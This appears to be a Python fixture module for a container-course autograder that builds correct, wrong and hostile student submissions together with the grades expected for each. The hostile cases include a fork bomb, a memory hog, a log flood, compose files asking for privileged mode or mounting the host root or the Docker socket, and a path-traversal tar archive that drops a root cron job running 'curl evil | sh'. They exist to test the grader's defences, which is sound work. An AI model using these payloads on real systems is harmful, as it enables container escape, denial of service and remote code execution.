"""A synthetic class, built from the course's own starters and solutions plus hostile answers.

Used by ``notebooks/90_instructor.ipynb``, ``benchmarks/grading.py`` and the tests: every
submission comes with the status (and, where it is certain, the score) a correct grader gives.

Example:
    >>> [s.student for s in small_class_plan()][:3]
    ['ada', 'bob', 'cy']
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .. import settings
from . import archive

ASSIGNMENT = "ps1"


@dataclass(frozen=True)
class Planned:
    """One planned submission: who, which exercise, how it is made, what the grade must be."""

    student: str
    exercise: str
    kind: str  # how the folder is made: see MAKERS
    status: str  # the status a correct grader gives
    full_marks: bool | None = None  # True: max score; False: below max; None: not judged
    note: str = ""


def _slug(exercise: str) -> str:
    from ..checks import find_module

    return find_module(exercise).SLUG


def _starter(exercise: str, dest: Path) -> None:
    shutil.copytree(settings.repo_root() / "exercises" / _slug(exercise), dest)


def _solution(exercise: str, dest: Path) -> None:
    from ..checks import materialized

    with materialized(settings.repo_root() / "solutions" / _slug(exercise)) as src:
        shutil.copytree(src, dest)


def _edit(maker: Callable[[str, Path], None], file: str, old: str, new: str):
    def make(exercise: str, dest: Path) -> None:
        maker(exercise, dest)
        p = dest / file
        text = p.read_text()
        if old not in text:
            raise ValueError(f"{file} of exercise {exercise} no longer contains {old!r}")
        p.write_text(text.replace(old, new, 1))

    return make


def _append(maker: Callable[[str, Path], None], file: str, text: str):
    def make(exercise: str, dest: Path) -> None:
        maker(exercise, dest)
        with (dest / file).open("a") as fh:
            fh.write(text)

    return make


_PY = '["python", "greet.py"]'
MAKERS: dict[str, Callable[[str, Path], None]] = {
    "solution": _solution,
    "starter": _starter,
    # exercise 00 variants: a wrong answer, then the hostile ones
    "unpinned": _edit(_solution, "Dockerfile", "python:3.11-slim", "python:3.11"),
    "typo-cmd": _edit(_solution, "Dockerfile", _PY, '["pyhton", "greet.py"]'),
    "hanging-build": _edit(_solution, "Dockerfile", "COPY greet.py .", "RUN sleep 100000"),
    "crashing": _append(_solution, "greet.py", "raise SystemExit('boom: crashed at start')\n"),
    "fork-bomb": _append(
        _solution,
        "greet.py",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    ),
    "log-flood": _append(_solution, "greet.py", "while True:\n    print('x' * 4096)\n"),
    "memory-hog": _append(
        _solution, "greet.py", "hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))\n"
    ),
    # compose exercises: policy violations and a published host port
    "privileged": _edit(
        _solution, "compose.yaml", "    build: .\n", "    build: .\n    privileged: true\n"
    ),
    "host-mount": _edit(
        _solution, "compose.yaml", "    build: .\n", "    build: .\n    volumes: ['/:/host']\n"
    ),
    "docker-socket": _edit(
        _solution,
        "compose.yaml",
        "    build: .\n",
        "    build: .\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n",
    ),
    "published-port": _edit(
        _solution, "compose.yaml", "    build: .\n", "    build: .\n    ports: ['18080:8000']\n"
    ),
}


def small_class_plan() -> list[Planned]:
    """About eight submissions covering every status; what the test suite grades."""
    return [
        Planned("ada", "00", "solution", "completed", True),
        Planned("bob", "00", "starter", "completed", False, "the starter fails its items"),
        Planned("cy", "00", "hanging-build", "timeout", None, "a build that never ends"),
        Planned("dee", "00", "memory-hog", "completed", False, "stopped at the memory ceiling"),
        Planned("eve", "02", "privileged", "rejected", None, "asks for privileged: true"),
        Planned("fay", "00", "archive", "completed", True, "handed in with `submit`"),
        Planned("gus", "00", "missing", "missing", None, "handed nothing in"),
        Planned("hal", "00", "escaping-archive", "rejected", None, "an archive with ../"),
    ]


def full_class_plan() -> list[Planned]:
    """At least 30 submissions over six exercises; what ``benchmarks/grading.py`` grades."""
    plan = list(small_class_plan())
    names = iter(f"s{n:02d}" for n in range(1, 100))
    for ex in ("00", "01", "03", "04", "06", "10"):
        plan.append(Planned(next(names), ex, "solution", "completed", True))
        plan.append(Planned(next(names), ex, "starter", "completed", False))
    plan += [
        Planned(next(names), "00", "unpinned", "completed", False, "a full base image"),
        Planned(next(names), "00", "typo-cmd", "completed", False, "CMD pyhton"),
        Planned(next(names), "00", "crashing", "completed", False, "crashes at start"),
        Planned(next(names), "00", "fork-bomb", "completed", False, "stopped by the pids cap"),
        Planned(next(names), "00", "log-flood", "completed", False, "logs capped at 10 MB"),
        Planned(next(names), "02", "host-mount", "rejected", None, "mounts / from the host"),
        Planned(next(names), "02", "docker-socket", "rejected", None, "mounts the docker socket"),
        Planned(next(names), "05", "privileged", "rejected", None, "asks for privileged: true"),
        Planned(next(names), "02", "published-port", "completed", True, "publishes 18080"),
        Planned(next(names), "02", "published-port", "completed", True, "publishes 18080 too"),
    ]
    return plan


def make_class(dest: Path, plan: list[Planned], assignment: str = ASSIGNMENT) -> Path:
    """Write ``dest/<student>/<assignment>/<NN_slug>`` (or an archive) for every planned entry."""
    for p in plan:
        adir = dest / p.student / assignment
        adir.mkdir(parents=True, exist_ok=True)
        slug = _slug(p.exercise)
        if p.kind == "missing":
            continue
        if p.kind == "archive":
            tmp = dest / ".work" / p.student
            _solution(p.exercise, tmp / slug)
            archive.pack(
                tmp / slug, p.exercise, slug, adir / f"{slug}{archive.SUFFIX}", "synthetic"
            )
            shutil.rmtree(dest / ".work")
        elif p.kind == "escaping-archive":
            _escaping_archive(adir / f"{slug}{archive.SUFFIX}")
        else:
            MAKERS[p.kind](p.exercise, adir / slug)
    return dest


def _escaping_archive(path: Path) -> None:
    import io
    import tarfile

    with tarfile.open(path, "w:gz") as tar:
        data = b"* * * * * root curl evil | sh\n"
        info = tarfile.TarInfo("../../../etc/cron.d/evil")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
